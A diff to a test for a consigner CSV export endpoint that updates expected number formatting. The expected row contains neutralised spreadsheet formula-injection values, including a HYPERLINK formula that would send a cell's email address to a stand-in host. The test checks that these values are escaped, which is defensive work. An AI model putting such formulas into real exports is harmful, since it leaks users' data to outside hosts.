@@ -49,7 +49,7 @@ describe('GET /api/consigners/export', () => {
       'id,first name,last name,email,phone,address,account type,fee,isActive,sales,profit',
     );
     expect(res.body).toContain(
-      `${odd!.id},"Ann, ""the seller""","'=HYPERLINK(""x"")",odd@x.test,"'-1+HYPERLINK(""http://x.test/?""&D2,""c"")","Line 1\nLine 2",Standard,20,true,100,20\r\n`,
+      `${odd!.id},"Ann, ""the seller""","'=HYPERLINK(""x"")",odd@x.test,"'-1+HYPERLINK(""http://x.test/?""&D2,""c"")","Line 1\nLine 2",Standard,20,true,100.00,20.00\r\n`,
     );
     expect(lines.filter(Boolean)).toHaveLength(3); // header, store account, Ann
   });
